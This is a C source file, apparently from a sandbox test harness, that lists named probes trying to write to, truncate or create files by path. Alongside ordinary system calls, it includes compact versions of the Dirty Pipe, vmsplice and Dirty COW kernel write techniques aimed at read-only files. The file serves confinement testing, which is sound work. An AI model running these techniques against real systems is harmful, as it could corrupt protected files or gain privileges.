/* Attacks that put bytes into a file or take them out of it by its path (touching). */
#include "attacker.h"
#include "calls.h"

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

/* Opens, writes one byte and reports the first thing that failed. */
static int write_through(const char *path, int flags) {
    const int fd = open(path, flags | O_CLOEXEC, 0644);
    return report(fd < 0 ? -1 : write(fd, "x", 1));
}

static int attack_create(int count, char **words) {
    (void)count;
    return write_through(words[0], O_WRONLY | O_CREAT | O_EXCL);
}

static int attack_create_follow(int count, char **words) {
    (void)count;
    return write_through(words[0], O_WRONLY | O_CREAT);
}

static int attack_create_openat2(int count, char **words) {
    (void)count;
    struct call_open_how how = {.flags = O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, .mode = 0644};
    const long fd = syscall(CALL_OPENAT2, AT_FDCWD, words[0], &how, sizeof how);
    return report(fd < 0 ? -1 : write((int)fd, "x", 1));
}

static int attack_write(int count, char **words) {
    (void)count;
    return write_through(words[0], O_WRONLY);
}

static int attack_append(int count, char **words) {
    (void)count;
    return write_through(words[0], O_WRONLY | O_APPEND);
}

static int attack_readwrite(int count, char **words) {
    (void)count;
    return write_through(words[0], O_RDWR);
}

static int attack_write_nonblock(int count, char **words) {
    (void)count;
    return write_through(words[0], O_WRONLY | O_NONBLOCK);
}

/* Writes back what the file already holds: shows that it could be written and changes nothing. */
static int attack_rewrite(int count, char **words) {
    (void)count;
    char held[4096];
    int fd = open(words[0], O_RDONLY | O_CLOEXEC);
    const ssize_t size = fd < 0 ? -1 : read(fd, held, sizeof held);
    if (size < 0)
        return report(-1);
    fd = open(words[0], O_WRONLY | O_CLOEXEC);
    return report(fd < 0 ? -1 : write(fd, held, (size_t)size));
}

static int attack_open(int count, char **words) {
    (void)count;
    const char *how = words[1];
    const int flags = !strcmp(how, "read")        ? O_RDONLY
                      : !strcmp(how, "write")     ? O_WRONLY
                      : !strcmp(how, "readwrite") ? O_RDWR
                                                  : -1;
    if (flags < 0) {
        fprintf(stderr, "usage: open PATH read|write|readwrite\n");
        return 2;
    }
    return report(open(words[0], flags | O_NONBLOCK | O_NOCTTY | O_CLOEXEC));
}

static int attack_truncate(int count, char **words) {
    (void)count;
    return report(truncate(words[0], 0));
}

static int attack_open_truncate(int count, char **words) {
    (void)count;
    return report(open(words[0], O_RDONLY | O_TRUNC | O_CLOEXEC));
}

static int attack_creat(int count, char **words) {
    (void)count;
    return report(creat(words[0], 0644));
}

static int attack_tmpfile(int count, char **words) {
    (void)count;
    const int fd = open(words[0], O_TMPFILE | O_RDWR | O_CLOEXEC, 0644);
    return report(fd < 0 ? -1 : write(fd, "x", 1));
}

static int attack_mmap_write(int count, char **words) {
    (void)count;
    const int fd = open(words[0], O_RDWR | O_CLOEXEC);
    if (fd < 0)
        return report(-1);
    char *page = mmap(NULL, 1, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
    if (page == MAP_FAILED)
        return report(-1);
    page[0] = 'x';
    return report(msync(page, 1, MS_SYNC));
}

/* Maps the file shared and read-only, then asks for write access to the mapping and uses it.
 * With `rw` the file itself is opened for writing, which is the only way this may succeed. */
static int attack_mmap_protect(int count, char **words) {
    const int flags = count > 1 && !strcmp(words[1], "rw") ? O_RDWR : O_RDONLY;
    const int fd = open(words[0], flags | O_CLOEXEC);
    char *page = fd < 0 ? MAP_FAILED : mmap(NULL, 1, PROT_READ, MAP_SHARED, fd, 0);
    if (page == MAP_FAILED || mprotect(page, 1, PROT_READ | PROT_WRITE))
        return report(-1);
    page[0] = 'x';
    return report(msync(page, 1, MS_SYNC));
}

/* `ok` when the first byte of the file is no longer what it was, else EUNCHANGED. */
static int report_change(int fd, char before) {
    char after = 0;
    if (pread(fd, &after, 1, 0) != 1)
        return report(-1);
    if (after != before)
        return report_ok("the file changed");
    puts("EUNCHANGED");
    return 1;
}

/* Dirty Pipe: fills and drains a pipe, splices a page of the file into it, then writes to the pipe. */
static int attack_dirty_pipe(int count, char **words) {
    (void)count;
    static char filler[65536];
    int ends[2];
    char before;
    const int fd = open(words[0], O_RDONLY | O_CLOEXEC);
    if (fd < 0 || pread(fd, &before, 1, 0) != 1 || pipe(ends))
        return report(-1);
    if (write(ends[1], filler, sizeof filler) != (ssize_t)sizeof filler ||
        read(ends[0], filler, sizeof filler) != (ssize_t)sizeof filler)
        return report(-1);
    loff_t offset = 0;
    if (splice(fd, &offset, ends[1], NULL, 1, 0) < 0 || write(ends[1], "xxxx", 4) < 0)
        return report(-1);
    return report_change(fd, before);
}

/* The same through vmsplice: a page of the mapped file is given to a pipe and written to there. */
static int attack_vmsplice(int count, char **words) {
    (void)count;
    int ends[2];
    char before;
    const int fd = open(words[0], O_RDONLY | O_CLOEXEC);
    if (fd < 0 || pread(fd, &before, 1, 0) != 1 || pipe(ends))
        return report(-1);
    char *page = mmap(NULL, 1, PROT_READ, MAP_SHARED, fd, 0);
    if (page == MAP_FAILED)
        return report(-1);
    struct iovec piece = {.iov_base = page, .iov_len = 1};
    if (vmsplice(ends[1], &piece, 1, SPLICE_F_GIFT) < 0 || write(ends[1], "xxxx", 4) < 0)
        return report(-1);
    return report_change(fd, before);
}

/* Writes to a private read-only mapping through /proc/self/mem while dropping the copy (Dirty COW). */
static int attack_self_mem(int count, char **words) {
    (void)count;
    char before;
    const int fd = open(words[0], O_RDONLY | O_CLOEXEC);
    const int mem = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
    if (fd < 0 || mem < 0 || pread(fd, &before, 1, 0) != 1)
        return report(-1);
    char *page = mmap(NULL, 1, PROT_READ, MAP_PRIVATE, fd, 0);
    if (page == MAP_FAILED)
        return report(-1);
    for (int i = 0; i < 200; i++) {
        if (pwrite(mem, "x", 1, (off_t)(uintptr_t)page) < 0)
            return report(-1);
        madvise(page, 1, MADV_DONTNEED);
    }
    return report_change(fd, before);
}

const struct attack attacks_write[] = {
    {"create", attack_create, "PATH"},
    {"create-follow", attack_create_follow, "PATH"},
    {"create-openat2", attack_create_openat2, "PATH"},
    {"write", attack_write, "PATH"},
    {"write-nonblock", attack_write_nonblock, "PATH"},
    {"append", attack_append, "PATH"},
    {"readwrite", attack_readwrite, "PATH"},
    {"rewrite", attack_rewrite, "PATH"},
    {"open", attack_open, "PATH HOW"},
    {"truncate", attack_truncate, "PATH"},
    {"open-truncate", attack_open_truncate, "PATH"},
    {"creat", attack_creat, "PATH"},
    {"tmpfile", attack_tmpfile, "DIR"},
    {"mmap-write", attack_mmap_write, "PATH"},
    {"mmap-protect", attack_mmap_protect, "PATH [rw]"},
    {"dirty-pipe", attack_dirty_pipe, "PATH"},
    {"vmsplice", attack_vmsplice, "PATH"},
    {"self-mem", attack_self_mem, "PATH"},
    {0},
};
